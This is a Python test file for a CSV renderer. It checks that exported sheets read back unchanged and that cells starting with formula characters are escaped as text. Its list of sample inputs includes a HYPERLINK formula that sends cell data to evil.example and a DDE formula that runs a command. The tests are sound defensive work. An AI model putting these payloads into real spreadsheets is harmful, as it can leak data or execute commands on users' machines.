"""A sheet as CSV: read back it is the same, and a spreadsheet runs nothing of it."""

import csv
import io
import re
from datetime import date

import pytest
from hypothesis import given

from npqplan.render.clean import clean
from npqplan.render.csv import render
from npqplan.report.sheets import Column, Sheet, Value
from tests.render.hostile import NAMES, UNSAFE, any_text

RUN = tuple("=+-@\t\r＝＋－＠")  # noqa: RUF001 - wide ones are run too, in Japanese
FORMULAS = (
    "=1+1",
    "+44 20 7946 0000",
    "-Smith",
    "@SUM(A1)",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''-1",
    "＝1+1",  # noqa: RUF001
    '=HYPERLINK("https://evil.example/?"&A1,"Error")',
    "=cmd|' /C calc'!A0",
    'x","=1+1',
    "x;=1+1;y",
    "'Ell Scott",
    "d'=Souza",
)


def sheet(*values: Value) -> Sheet:
    columns = tuple(Column(f"Column {number}", 10) for number in range(len(values)))
    return Sheet("Sheet", columns, (values,))


def written(*values: Value) -> str:
    return "".join(render(sheet(*values)))


def read(text: str) -> list[list[str]]:
    """As a reader of CSV finds it, without the apostrophes that keep text from being run."""
    found = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), strict=True)
    return [[_without_guard(cell) for cell in row] for row in found]


def _without_guard(cell: str) -> str:
    return cell[1:] if re.match(r"''*\s*[=+\-@＝＋－＠]", cell) else cell  # noqa: RUF001


@pytest.mark.parametrize("name", NAMES + UNSAFE + FORMULAS)
def test_a_name_comes_back(name: str) -> None:
    assert read(written(name, "x", name))[1] == [clean(name), "x", clean(name)]


@given(any_text)
def test_any_text_comes_back(text: str) -> None:
    assert read(written("x", text))[1] == ["x", clean(text)]


@given(any_text)
def test_nothing_is_run_whatever_separates_cells(text: str) -> None:
    line = written(text).splitlines()[1]
    for separator in ",;\t|":
        for cell in csv.reader([line], delimiter=separator):
            assert not cell or not cell[0].lstrip().startswith(RUN)


@pytest.mark.parametrize("formula", FORMULAS[:10])
def test_a_formula_is_text(formula: str) -> None:
    [_, [cell]] = csv.reader(io.StringIO(written(formula), newline=""))
    assert cell == f"'{clean(formula)}"


def test_a_sheet_with_every_kind_of_cell() -> None:
    assert written("Zoë", 1949, 0, date(2027, 11, 1), None, "") == (
        '\ufeff"Column 0","Column 1","Column 2","Column 3","Column 4","Column 5"\r\n'
        '"Zoë",1949,0,2027-11-01,,\r\n'
    )


def test_a_quotation_mark_is_doubled() -> None:
    assert written('The "top 50%" list, and more').endswith('\r\n"The ""top 50%"" list, and more"\r\n')


def test_without_rows_it_has_headings() -> None:
    assert "".join(render(Sheet("Plan", (Column("Name", 9),), ()))) == '\ufeff"Name"\r\n'
